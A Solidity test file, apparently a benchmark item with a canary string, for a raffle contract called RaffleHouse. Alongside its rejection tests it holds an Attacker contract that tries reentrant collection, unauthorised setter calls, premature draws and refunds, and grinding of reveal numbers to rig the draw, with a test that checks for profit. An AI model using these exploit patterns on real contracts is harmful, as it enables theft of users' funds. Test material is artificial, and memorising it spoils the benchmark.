// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./RaffleHouse.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-a078a6b9-a5f3-4d44-81ad-78a6ed4da63c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

/// Holds one ticket of eleven and looks for a way to have it drawn.
contract Attacker {
    RaffleHouse internal house;
    uint256 internal mine;
    uint256 internal times;

    constructor(RaffleHouse house_) {
        house = house_;
    }

    receive() external payable {
        if (++times < 4) _try(abi.encodeCall(house.collect, ()), 0);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(house).call{value: value}(data);
    }

    function enter() external {
        mine = house.ticketsSold(1);
        _try(abi.encodeCall(house.buy, (1, 1)), 0.1 ether);
        _try(abi.encodeCall(house.buy, (1, 0)), 0);
        _try(abi.encodeCall(house.buy, (1, 2)), 0);
        _try(abi.encodeCall(house.buyFor, (1, address(this), type(uint96).max)), 0);
        _try(abi.encodeCall(house.buy, (2, 1)), 0);
        // in the place of others
        _try(abi.encodeCall(house.setOrganizer, (address(this), true)), 0);
        _try(abi.encodeCall(house.setFund, (address(this), true)), 0);
        _try(abi.encodeCall(house.setTreasury, (address(this))), 0);
        _try(abi.encodeCall(house.openRound, (bytes32(0), 0.001 ether, 5_000, 50, address(this))), 0);
        // before its time
        _try(abi.encodeCall(house.storeHash, (1)), 0);
        _try(abi.encodeCall(house.reveal, (1, house.round(1).hidden)), 0);
        _try(abi.encodeCall(house.callOff, (1)), 0);
        _try(abi.encodeCall(house.callOff, (2)), 0);
        _try(abi.encodeCall(house.refund, (1, address(this))), 0);
    }

    /// Between the last sale and the hash, and in every block after it.
    function look() external {
        _try(abi.encodeCall(house.buy, (1, 1)), address(this).balance >= 0.1 ether ? 0.1 ether : 0);
        _try(abi.encodeCall(house.storeHash, (1)), 0);
        bytes32 h = house.round(1).drawHash;
        uint256 n = house.ticketsSold(1);
        // a number of one's own that draws the right ticket
        for (uint256 i = 0; i < 200; ++i) {
            if (uint256(keccak256(abi.encode(bytes32(i), h, 1))) % n == mine) {
                _try(abi.encodeCall(house.reveal, (1, bytes32(i))), 0);
                break;
            }
        }
        _try(abi.encodeCall(house.reveal, (1, house.round(1).hidden)), 0);
        _try(abi.encodeCall(house.reveal, (1, blockhash(block.number - 1))), 0);
        _try(abi.encodeCall(house.callOff, (1)), 0);
        _try(abi.encodeCall(house.refund, (1, address(this))), 0);
        _try(abi.encodeCall(house.collect, ()), 0);
        _try(abi.encodeCall(house.collectTo, (payable(address(this)))), 0);
    }
}

/// Takes no ether.
contract Mute {}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    bytes32 private constant NUMBER = keccak256("the first of our numbers");
    bytes32 private constant SECOND = keccak256("the second of our numbers");

    RaffleHouse private house;
    Attacker private player;
    address private constant NELL = address(0x4E11);
    address private constant FUND = address(0xF00D);
    address private constant OTIS = address(0x0715);
    address private constant ORGANIZER = address(0x0E6A);
    address private constant TREASURY = address(0x7EA5);

    function hide(bytes32 number) private pure returns (bytes32) {
        return keccak256(abi.encode(number, ORGANIZER));
    }

    function open(bytes32 number, uint256 bond) private returns (uint256) {
        vm.deal(ORGANIZER, bond);
        vm.prank(ORGANIZER);
        return house.openRound{value: bond}(hide(number), 0.1 ether, 5_000, 50, FUND);
    }

    function setUp() public {
        vm.warp(1_765_000_000);
        vm.roll(40_000);
        house = new RaffleHouse(address(this), TREASURY, 200);
        house.setOrganizer(ORGANIZER, true);
        house.setFund(FUND, true);
        require(open(NUMBER, 2 ether) == 1, "the first round");
        player = new Attacker(house);
        vm.deal(address(player), 0.1 ether);
        vm.deal(NELL, 1 ether);
        vm.deal(OTIS, 3 ether);
        vm.prank(NELL);
        house.buy{value: 0.6 ether}(1, 6);
        vm.prank(OTIS);
        house.buy{value: 0.4 ether}(1, 4);
    }

    function test_Regular() public {
        require(house.ticketsLeft(1) == 10 && house.ticketsSold(1) == 10, "sold");
        vm.prank(OTIS);
        house.buyFor{value: 0.2 ether}(1, NELL, 2);
        require(house.ticketsOf(1, NELL) == 8 && house.holderOf(1, 9) == OTIS && house.holderOf(1, 11) == NELL, "holders");
        require(house.holderOf(1, 0) == NELL && house.holderOf(1, 6) == OTIS, "the first ones");
        vm.roll(40_062);
        house.storeHash(1);
        bytes32 h = blockhash(40_060);
        require(house.round(1).drawHash == h && house.drawBlock(1) == 40_060, "of the block of the draw");
        house.reveal(1, NUMBER);
        address winner = house.holderOf(1, uint256(keccak256(abi.encode(NUMBER, h, 1))) % 12);
        require(house.claimable(winner) == 0.6 ether && house.claimable(TREASURY) == 0.024 ether, "prize and fee");
        require(house.totalClaimable() == 3.2 ether, "all of it");
        uint256 before = winner.balance;
        vm.prank(winner);
        house.collect();
        require(winner.balance == before + 0.6 ether, "collected");
        vm.prank(ORGANIZER);
        house.collectTo(payable(NELL));
        vm.prank(TREASURY);
        house.collect();
        require(address(house).balance == 0 && house.totalClaimable() == 0, "the organizer's half and the bond");

        // another one, that is called off
        house.setFee(100);
        require(open(SECOND, 1 ether) == 2 && house.round(2).feeBps == 100, "the second round");
        vm.prank(NELL);
        house.buy{value: 0.3 ether}(2, 3);
        vm.prank(OTIS);
        house.buy{value: 0.1 ether}(2, 1);
        vm.roll(40_062 + 50 + 10 + 257);
        house.callOff(2);
        house.refund(2, NELL);
        require(house.claimable(NELL) == 0.3 ether && house.ticketsOf(2, NELL) == 0, "three tickets");
        require(house.claimable(FUND) == 1 ether && house.claimable(ORGANIZER) == 0, "bond");
        require(house.ticketsLeft(2) == 0, "nothing is sold any more");

        house.setTreasury(FUND);
        house.setFund(FUND, false);
        house.setOrganizer(ORGANIZER, false);
        house.pause();
        house.unpause();
        house.transferOwnership(NELL);
        vm.prank(NELL);
        house.acceptOwnership();
        vm.prank(NELL);
        house.renounceOwnership();
        require(house.owner() == address(0) && house.treasury() == FUND, "given up");
    }

    function test_RefusesSettings() public {
        vm.expectRevert("no treasury");
        new RaffleHouse(address(this), address(0), 200);
        vm.expectRevert("fee too high");
        house.setFee(501);
        vm.expectRevert("no treasury");
        house.setTreasury(address(0));
        vm.expectRevert("no fund");
        house.setFund(address(0), true);
        bytes memory stranger = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, NELL);
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.setFee(1);
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.setTreasury(NELL);
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.setOrganizer(NELL, true);
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.setFund(NELL, true);
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.pause();
        house.pause();
        vm.prank(NELL);
        vm.expectRevert(stranger);
        house.unpause();
    }

    function test_RefusesRounds() public {
        vm.deal(ORGANIZER, 10 ether);
        bytes32 hidden = hide(SECOND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad price");
        house.openRound{value: 1 ether}(hidden, 0.001 ether - 1, 5_000, 50, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad price");
        house.openRound{value: 0.1 ether - 1}(hidden, 0.1 ether, 5_000, 50, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad prize share");
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 4_999, 50, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad prize share");
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 9_501, 50, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad sale term");
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 5_000, 49, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("bad sale term");
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 5_000, 200_001, FUND);
        vm.prank(ORGANIZER);
        vm.expectRevert("not a fund of ours");
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 5_000, 50, ORGANIZER);
        bytes32 old = hide(NUMBER);
        vm.prank(ORGANIZER);
        vm.expectRevert("number was used before");
        house.openRound{value: 1 ether}(old, 0.1 ether, 5_000, 50, FUND);
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(HouseSettings.NotOrganizer.selector, OTIS));
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 5_000, 50, FUND);
        house.pause();
        vm.prank(ORGANIZER);
        vm.expectRevert(abi.encodeWithSelector(Pausable.EnforcedPause.selector));
        house.openRound{value: 1 ether}(hidden, 0.1 ether, 5_000, 50, FUND);
    }

    function test_RefusesSales() public {
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.SoldOut.selector, 10));
        house.buy(1, 0);
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.SoldOut.selector, 10));
        house.buy{value: 1.1 ether}(1, 11);
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.WrongValue.selector, 0.2 ether));
        house.buy{value: 0.2 ether - 1}(1, 2);
        vm.prank(OTIS);
        vm.expectRevert("ticket for nobody");
        house.buyFor{value: 0.1 ether}(1, address(0), 1);
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, 2));
        house.buy{value: 0.1 ether}(2, 1);
        vm.expectRevert(abi.encodeWithSelector(TicketBook.NoSuchTicket.selector, 10));
        house.holderOf(1, 10);
        vm.roll(40_051);
        vm.prank(OTIS);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.SaleOver.selector, 40_050));
        house.buy{value: 0.1 ether}(1, 1);
    }

    function test_RefusesHashes() public {
        vm.roll(40_060);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.TooEarly.selector, 40_060));
        house.storeHash(1);
        vm.expectRevert("no hash yet");
        house.reveal(1, NUMBER);
        vm.expectRevert("still on");
        house.callOff(1);
        vm.roll(40_062);
        house.storeHash(1);
        vm.expectRevert("hash is there already");
        house.storeHash(1);
        vm.expectRevert("still on");
        house.callOff(1);
    }

    function test_RefusesAHashOutOfReach() public {
        vm.roll(40_060 + 257);
        vm.expectRevert("hash is gone");
        house.storeHash(1);
        house.callOff(1);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, 1));
        house.callOff(1);
    }

    function test_RefusesASecondDraw() public {
        vm.roll(40_062);
        house.storeHash(1);
        house.reveal(1, NUMBER);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, 1));
        house.reveal(1, NUMBER);
        vm.warp(block.timestamp + 4 days);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, 1));
        house.callOff(1);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, 2));
        house.callOff(2);
    }

    function test_RefusesToRevealTooLate() public {
        vm.roll(40_062);
        house.storeHash(1);
        vm.warp(block.timestamp + 3 days + 1);
        vm.expectRevert("too late");
        house.reveal(1, NUMBER);
        house.callOff(1);
        require(house.claimable(FUND) == 2 ether, "bond");
    }

    function test_RefusesADrawOfNoTickets() public {
        uint256 id = open(SECOND, 1 ether);
        vm.roll(40_062);
        house.storeHash(id);
        vm.expectRevert("no tickets");
        house.reveal(id, SECOND);
        house.callOff(id);
        require(house.claimable(ORGANIZER) == 1 ether, "the bond goes back");
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NotOpen.selector, id));
        house.storeHash(id);
    }

    function test_RefusesToPayWhatIsNotDue() public {
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NothingToRefund.selector, NELL));
        house.refund(1, NELL);
        vm.prank(NELL);
        vm.expectRevert("nothing to collect");
        house.collect();
        vm.prank(NELL);
        vm.expectRevert("collect to nobody");
        house.collectTo(payable(address(0)));

        address mute = address(new Mute());
        vm.deal(mute, 0.1 ether);
        vm.prank(mute);
        house.buy{value: 0.1 ether}(1, 1);
        vm.roll(40_060 + 257);
        house.callOff(1);
        house.refund(1, mute);
        vm.expectRevert(abi.encodeWithSelector(RaffleHouse.NothingToRefund.selector, mute));
        house.refund(1, mute);
        vm.prank(mute);
        vm.expectRevert();
        house.collect();
        vm.prank(mute);
        house.collectTo(payable(NELL));
    }

    function exploit() public {
        player.enter();
        vm.roll(40_055);
        player.look();
        vm.roll(40_060);
        player.look();
        for (uint256 i = 1; i <= 12; ++i) {
            vm.roll(40_060 + i);
            vm.warp(block.timestamp + 12);
            player.look();
        }
        vm.roll(40_400);
        vm.warp(block.timestamp + 4 days);
        player.look();
    }

    function test_Exploit() public {
        uint256 before = address(player).balance;
        exploit();
        require(address(player).balance >= before + 0.4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(player);
    }
}
